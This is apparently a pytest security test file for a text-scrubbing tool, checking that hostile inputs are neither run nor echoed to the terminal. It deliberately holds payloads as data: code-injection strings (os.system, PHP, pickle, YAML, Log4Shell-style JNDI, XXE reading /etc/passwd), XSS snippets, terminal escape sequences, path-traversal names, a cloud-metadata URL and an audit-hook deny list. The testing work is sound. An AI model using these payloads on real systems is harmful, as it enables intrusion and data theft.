"""Every sentence of SECURITY.md that can be tried, by its heading."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

import scrubber
from scrubber.article import Rejected
from scrubber.cli import main
from scrubber.inspection.page import article_page
from scrubber.matching.rulesfile import RulesError, read_rules
from scrubber.readers.decoding import decode

ROOT = Path(__file__).parent.parent
# What a terminal would obey: C0 controls but tab and line feed, C1 controls, marks that turn the direction.
COMMANDS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"

GUARDED = """
import sys
import scrubber
from scrubber import Record, Scrubber, Settings
from scrubber.readers.decoding import decode

FIRST, SECOND = (__import__("json").loads(line) for line in sys.stdin)
pipeline = Scrubber(Settings(entry_points=False))
for item in FIRST:  # What is loaded lazily is loaded now.
    pipeline.clean_record(Record(item["id"], item["text"], item["kind"], given=item["given"]))
decode("Grüße aus Köln".encode("cp1252"), "windows-1252")

REFUSED = ("import", "exec", "compile", "open", "os.", "subprocess.", "socket.", "pickle.", "marshal.", "ctypes.",
           "urllib.", "shutil.", "code.", "builtins.input", "tempfile.", "glob.", "http.", "ftplib.", "smtplib.",
           "webbrowser.")
seen = []

def guard(event, arguments):
    if event.startswith(REFUSED):
        seen.append(f"{event} {arguments!r}"[:200])

sys.addaudithook(guard)
for item in SECOND:
    result = pipeline.clean_record(Record(item["id"], item["text"], item["kind"], given=item["given"]))
    result.to_json()
    if hasattr(result, "revert"):
        result.revert()
print(len(SECOND), *seen, sep="\\n")
"""

SOUND = "It rained all night.\n\nThe river rose by a metre, and the mayor asked for help."
CODE = (
    "__import__('os').system('touch owned')",
    "{{ 7 * 7 }} ${jndi:ldap://a.example/x} <%= `id` %> {% import os %}",
    "<?php system('id'); ?>",
    'O:8:"Exploit":1:{s:3:"cmd";s:2:"id";}',
    'string(44) "[{"id":"1","title":"{__class__}","pic":"/a"}]"',
    "cposix\nsystem\n(S'id'\ntR.",
    "!!python/object/apply:os.system ['id']",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
    "Array ( [0] => __wakeup Object ( [a] => b ) )",
    "READ MORE: file:///etc/passwd\n\nwww.a.example/x",
    'object(__main__\\os)#1 (1) { ["system"]=> string(2) "id" }',
    "donâ€™t &amp;lt;script&gt; oth banks T HE end",
)
PAGE = (
    "<html><head><base href='http://a.example/'><meta charset='{charset}'><link rel=stylesheet href=//a.example/x.css>"
    '<script src=http://a.example/x.js></script><script type=\'application/ld+json\'>{{"@type":"Article",'
    '"headline":"{code}"}}</script></head><body><img src=http://a.example/x.png><iframe src=file:///etc/passwd></iframe>'
    "<article><p>It rained all night, and the river rose by a metre.</p><p>{code}</p></article></body></html>"
)


def material(tag: str) -> list[dict]:
    given = {"url": f"http://169.254.169.254/{tag}", "title": "file:///etc/passwd", "date": "2020-01-01"}
    texts = [
        {"id": tag, "kind": "text", "text": f"{SOUND} {tag}\n\n{code}\n\n{SOUND}", "given": given} for code in CODE
    ]
    pages = [PAGE.format(charset="utf-7", code=code) for code in CODE]
    return texts + [{"id": tag, "kind": "html", "text": page + tag, "given": {"url": given["url"]}} for page in pages]


def test_cleaning_imports_evaluates_opens_and_fetches_nothing(tmp_path) -> None:
    lines = "\n".join(json.dumps(material(tag)) for tag in ("first", "second"))
    done = subprocess.run(
        [sys.executable, "-c", GUARDED], input=lines, capture_output=True, text=True, cwd=tmp_path, check=True
    )
    assert done.stdout.splitlines() == [str(2 * len(CODE))]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "name", ["punycode", "idna", "unicode_escape", "raw_unicode_escape", "undefined", "rot13", "os"]
)
def test_an_encoding_that_is_none_of_a_page_is_not_asked_for(name) -> None:
    text, charset = decode("Größe: \\u0041".encode("cp1252"), name)
    assert (text, charset) == ("Größe: \\u0041", "cp1252")


def test_code_beside_the_inputs_is_not_run(tmp_path, monkeypatch) -> None:
    bomb = f"open({str(tmp_path / 'owned')!r}, 'w')"
    inputs = tmp_path / "in"
    for folder in (inputs, inputs / "plugin", inputs / "plugins" / "a.example", inputs / "scrubber"):
        folder.mkdir(parents=True, exist_ok=True)
        for name in ("cleaner.py", "__init__.py", "conftest.py", "sitecustomize.py", "json.py", "re2.py"):
            (folder / name).write_text(bomb)
    (inputs / "a.txt").write_text(SOUND)
    monkeypatch.chdir(inputs)
    call = [sys.executable, "-m", "scrubber.cli", ".", "-o", "../out", "--workers", "1"]
    call[1:3] = ["-P", "-c", "from scrubber.cli import main; main()"]
    assert subprocess.run(call, capture_output=True, check=False).returncode == 0
    assert not (tmp_path / "owned").exists()


@pytest.mark.parametrize("named", [False, True], ids=["found", "named"])
def test_a_settings_file_among_the_inputs_names_no_plugins_unless_the_user_names_it(
    tmp_path, monkeypatch, capsys, named
) -> None:
    (tmp_path / "plugin").mkdir()
    (tmp_path / "plugin" / "cleaner.py").write_text(f"open({str(tmp_path / 'owned')!r}, 'w')")
    (tmp_path / "scrubber.toml").write_text('plugins = ["plugin"]')
    (tmp_path / "a.txt").write_text(SOUND)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as ended:
        main(["explain", "a.txt" if named else ".", *(["--config", "scrubber.toml"] if named else [])])
    assert (tmp_path / "owned").exists() is named
    assert ended.value.code == (0 if named else 2)
    assert ("lies among the inputs and names plugins" in capsys.readouterr().err) is not named


@pytest.mark.parametrize(
    "source",
    [
        '[[rule]]\nid = "a"\ncategory = "ad"\npattern = ["(?{system(1)})"]\nexamples = ["a"]',
        '[[rule]]\nid = "a"\ncategory = "ad"\npattern = ["(?P<n>a)(?P=n)"]\nexamples = ["a"]',
        '[[rule]]\nid = "a"\ncategory = "ad"\nrun = "os.system"\nline = ["a"]',
        "a = " + "[" * 100_000,
        "import os",
    ],
    ids=["code in a pattern", "a back reference", "a key of its own", "nested deep", "Python"],
)
def test_a_rules_file_holds_rules_or_is_refused(tmp_path, source) -> None:
    (tmp_path / "rules.toml").write_text(source)
    with pytest.raises(RulesError):
        read_rules(tmp_path / "rules.toml")


def test_a_page_shows_what_an_article_holds_as_text() -> None:
    hostile = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
    article = scrubber.clean(f"{SOUND}\n\n{hostile}\n\nREAD MORE: {hostile}", title=hostile, url="javascript:alert(1)")
    page = article_page(article)
    assert "alert(1)</script>" not in page
    assert "<img src=x" not in page
    assert "default-src 'none'" in page


def shown(arguments: list[str], capsys) -> str:
    with pytest.raises(SystemExit):
        main(arguments)
    told = capsys.readouterr()
    return told.out + told.err


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """A run over an article, a rejection and files whose contents and names command the terminal."""
    folder = tmp_path_factory.mktemp("hostile")
    inputs = folder / "in"
    inputs.mkdir()
    lines = [
        {"id": "a", "text": f"{SOUND}\n\nREAD MORE: {EVIL} Five ferries", "note": EVIL},
        {"id": f"b{EVIL}", "text": SOUND},
        {"id": "c", "text": SOUND, "title": EVIL},
    ]
    (inputs / "a.jsonl").write_text("\n".join(map(json.dumps, lines)))
    (inputs / f"{EVIL}\nrejected: fake.txt").write_bytes(b"")
    (inputs / f"{EVIL}.png").write_text("")
    os.mkfifo(inputs / f"{EVIL}.txt")
    call = [sys.executable, "-c", "from scrubber.cli import main; main()", str(inputs), "-o", str(folder / "out")]
    done = subprocess.run([*call, "--workers", "1"], capture_output=True, text=True, check=False)
    return folder, done


def test_messages_of_a_run_command_no_terminal(hostile_run) -> None:
    _, done = hostile_run
    assert done.returncode == 1
    assert "rejected: a.jsonl line 2: id: holds control characters" in done.stderr
    assert "in/␛]0;owned␇␛[2J⟨U+009B⟩31m⟨U+202E⟩.txt: a pipe, not a file" in done.stderr
    assert COMMANDS.findall(done.stderr + done.stdout) == []
    assert "\nrejected: fake" not in done.stderr


@pytest.mark.parametrize(
    "command",
    [["explain", "{out}", "--id", "a"], ["explain", "{in}/a.jsonl"], ["check", "{out}"], ["diff", "{out}", "{out}"],
     ["revert", "{out}", "-o", "{folder}/back"], ["report", "{out}", "-o", "{folder}/page.html"],
     ["explain", "{out}", "--id", EVIL], ["run", "{folder}/" + EVIL, "-o", "{folder}/x"],
     ["run", "{in}", "-o", "{in}/a.jsonl"], ["run", "{in}", "-o", "{folder}/x", "--plugins", "{in}/" + EVIL + ".png"]],
    ids=lambda command: f"{command[0]} {command[-1]!r}"[:40],
)  # fmt: skip
def test_what_commands_print_commands_no_terminal(hostile_run, capsys, command) -> None:
    folder, _ = hostile_run
    told = shown([part.format(out=folder / "out", folder=folder, **{"in": folder / "in"}) for part in command], capsys)
    assert told
    assert COMMANDS.findall(told) == []


def test_names_of_inputs_lead_nowhere(tmp_path) -> None:
    from scrubber.writers.text import file_name

    for name in ("../../etc/passwd", "/etc/passwd", "a/../../b", "..", "a\nb\x1b", "C:\\x", "~root", "." * 300):
        path = (tmp_path / f"{file_name(name)}.txt").resolve()
        assert tmp_path in path.parents
        assert COMMANDS.search(path.name) is None


def test_every_test_is_told_of() -> None:
    told = (ROOT / "SECURITY.md").read_text("utf-8")
    names = re.findall(r"`(test_\w+)`", told)
    here = {name for name in globals() if name.startswith("test_")} - {"test_every_test_is_told_of"}
    elsewhere = "".join(path.read_text("utf-8") for path in ROOT.glob("tests/**/test_*.py"))
    assert here <= set(names)
    assert [name for name in names if f"def {name}(" not in elsewhere] == []


def test_a_rejection_keeps_what_it_refuses_as_data() -> None:
    line = Rejected(id=EVIL, reason=EVIL, input={"text": EVIL}).to_json().decode()
    assert json.loads(line)["input"] == {"text": EVIL}
    assert "\x1b" not in line
